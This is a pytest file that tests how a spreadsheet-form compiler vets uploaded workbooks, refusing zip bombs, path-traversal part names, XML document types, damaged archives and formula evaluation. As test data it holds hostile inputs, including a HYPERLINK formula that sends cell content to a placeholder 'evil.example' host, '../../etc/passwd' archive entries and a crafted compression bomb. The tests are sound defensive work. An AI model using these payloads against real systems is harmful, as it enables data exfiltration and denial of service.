"""Workbooks from outside, before any spreadsheet library opens them."""

import io
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from xlsforms.compile import compile_form
from xlsforms.finding import Finding
from xlsforms.workbook import Limits, Sheet, Workbook, inspect, kind_of, split_header

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def workbook(**sheets) -> bytes:
    """A .xlsx with these sheets, each a list of rows."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def archive(parts: dict[str, bytes]) -> bytes:
    """A zip of these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return file.getvalue()


SURVEY = [["type", "name", "label"], ["text", "a", "A"]]


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (b"PK\x03\x04rest", "form.xlsx", "xlsx"), (b"PK\x03\x04rest", "form.csv", "xlsx"), (OLE + b"rest", "form", "xls"),
        (b"\xef\xbb\xbf  <h:html/>", "form.txt", "xml"), (b"| survey |\n| | type |", "form", "md"),
        (b"# note\n\n| survey |", "x", "md"), (b"survey\n,type,name", "form.csv", "csv"), (b"hello", "form.md", "md"),
    ],
)  # fmt: skip
def test_what_a_file_holds_decides_what_it_is(content, name, kind):
    assert kind_of(content, name) == kind


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (b"", "empty"), (b" \n", "empty"), (b"\xff\xfe\x00\xd8", "UTF-8"), (b"\x81\x82", "UTF-8"), (b"abc\x00def", "no text"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "password"),
        (b"PK\x03\x04" + b"\0" * 26 + b"mimetypeapplication/vnd.oasis.opendocument.spreadsheet", "OpenDocument"),
    ],
)  # fmt: skip
def test_what_is_no_form_is_refused_with_a_reason(content, word):
    finding = kind_of(content, "form.xlsx")
    assert isinstance(finding, Finding)
    assert word in finding.message
    assert finding.mend


def test_a_plain_workbook_passes():
    assert inspect(workbook(survey=SURVEY), "xlsx", Limits()) is None


def test_a_file_that_is_too_large_is_refused_before_it_is_opened():
    compiled = compile_form(b"PK" + b"x" * 2000, "form.xlsx", limits=Limits(upload=1000))
    assert [finding.code for finding in compiled.findings] == ["workbook_too_large"]
    assert not compiled.ok


def test_a_zip_bomb_is_refused_by_its_ratio():
    bomb = archive({"xl/worksheets/sheet1.xml": b"0" * (30 << 20)})
    assert len(bomb) < 100_000
    assert inspect(bomb, "xlsx", Limits()).code == "workbook_bomb"


def test_two_gigabytes_declared_are_refused_without_unpacking():
    packed = bytearray(archive({"xl/workbook.xml": b"<a/>"}))
    directory = packed.rindex(b"PK\x01\x02")
    packed[directory + 24 : directory + 28] = (2 << 30).to_bytes(4, "little")
    assert inspect(bytes(packed), "xlsx", Limits()).code == "workbook_bomb"


def test_a_part_larger_than_declared_is_damaged():
    packed = bytearray(archive({"xl/workbook.xml": b"<a/>" * 100}))
    packed[packed.rindex(b"PK\x01\x02") + 24 : packed.rindex(b"PK\x01\x02") + 28] = (4).to_bytes(4, "little")
    assert inspect(bytes(packed), "xlsx", Limits()).code == "workbook_unreadable"


def test_thousands_of_parts_are_refused():
    assert (
        inspect(archive({f"p{n}": b"" for n in range(30)}), "xlsx", Limits(parts=20)).code == "workbook_bomb"
    )


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "xl\\..\\..\\evil.xml", "..\\evil"])
def test_names_that_climb_out_are_refused(name):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr(zipfile.ZipInfo(name), b"x")
    assert inspect(file.getvalue(), "xlsx", Limits()).code == "workbook_unreadable"


def test_two_parts_of_one_name_are_refused():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("xl/workbook.xml", b"<a/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            packed.writestr("xl/workbook.xml", b"<b/>")
    assert inspect(file.getvalue(), "xlsx", Limits()).code == "workbook_unreadable"


def test_a_part_behind_a_password_is_refused():
    packed = bytearray(archive({"xl/workbook.xml": b"<a/>"}))
    packed[packed.rindex(b"PK\x01\x02") + 8] |= 1
    assert "password" in inspect(bytes(packed), "xlsx", Limits()).message


@pytest.mark.parametrize(
    "part",
    [
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16"),
        b" " * ((1 << 20) - 4) + b"<!DOCTYPE x>",
    ],
)
def test_a_document_type_in_a_part_is_refused_wherever_it_hides(part):
    # random-looking padding would be needed to pass the ratio; the limit is lifted here to look at the content
    found = inspect(archive({"xl/sharedStrings.xml": part}), "xlsx", Limits(ratio=1 << 20))
    assert found.code == "xml_dtd"


def test_an_encoding_nobody_uses_is_refused():
    part = b'<?xml version="1.0" encoding="IBM037"?><x/>'
    assert "encoding" in inspect(archive({"xl/workbook.xml": part}), "xlsx", Limits()).message


@pytest.mark.parametrize("content", [b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18, b"PK" * 100])
def test_a_file_cut_short_is_refused_by_name(content):
    compiled = compile_form(content, "form.xlsx")
    assert [finding.code for finding in compiled.findings] == ["workbook_unreadable"]


def test_a_workbook_whose_packed_bytes_are_damaged_is_refused():
    content = bytearray(workbook(survey=SURVEY))
    start = content.index(b"xl/workbook.xml") + 40
    content[start : start + 40] = b"\xff" * 40
    assert inspect(bytes(content), "xlsx", Limits()).code == "workbook_unreadable"


@given(st.binary(max_size=600))
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@pytest.mark.usefixtures("here")
def test_an_old_workbook_of_noise_is_refused(noise):
    compiled = compile_form(OLE + noise, "form.xls")
    assert not compiled.ok
    assert any(finding.is_error for finding in compiled.findings)


def test_formulas_are_never_computed():
    compiled = compile_form(
        workbook(
            survey=[["type", "name", "label"], ["text", "a", '=HYPERLINK("http://evil.example/?"&A1,"x")'],
                    ["text", "b", "B"]],
            settings=[["form_id", "version"], ["f", "1"]],
        ),
        "f.xlsx",
    )  # fmt: skip
    assert b"evil" not in (compiled.xform or b"")


@pytest.mark.parametrize(
    ("header", "plain"),
    [
        ("label", ("label", "")), ("label::English (en)", ("label", "English (en)")), ("label:Français", ("label", "Français")),
        ("Label :: Español (es)", ("label", "Español (es)")), ("list name", ("list_name", "")), ("relevance", ("relevant", "")),
        ("bind::case:field", ("case_field", "")), ("bind::odk:length", ("bind::odk:length", "")),
        ("media::image::English", ("image", "English")), ("image::English", ("image", "English")),
        ("bind::jr:constraintMsg::English", ("constraint_message", "English")),
        ("constraint message", ("constraint_message", "")), ("attribute::case:gate", ("attribute::case:gate", "")),
        ("jr:count", ("repeat_count", "")), ("calculation", ("calculation", "")),
    ],
)  # fmt: skip
def test_a_column_is_known_by_all_its_names(header, plain):
    assert split_header(header) == plain


def test_cells_are_found_by_the_plain_name_of_their_column():
    sheet = Sheet("survey", ("Type", "Relevance"), ({"Type": "text"}, {}, {"Relevance": "${a} = 1"}))
    assert sheet.header("relevant") == "Relevance"
    assert [(number, sheet.get(row, "relevant")) for number, row in sheet.numbered()] == [
        (2, ""),
        (4, "${a} = 1"),
    ]
    assert Workbook({"survey": sheet})["choices"].rows == ()
    assert sheet.get({}, "label") == ""
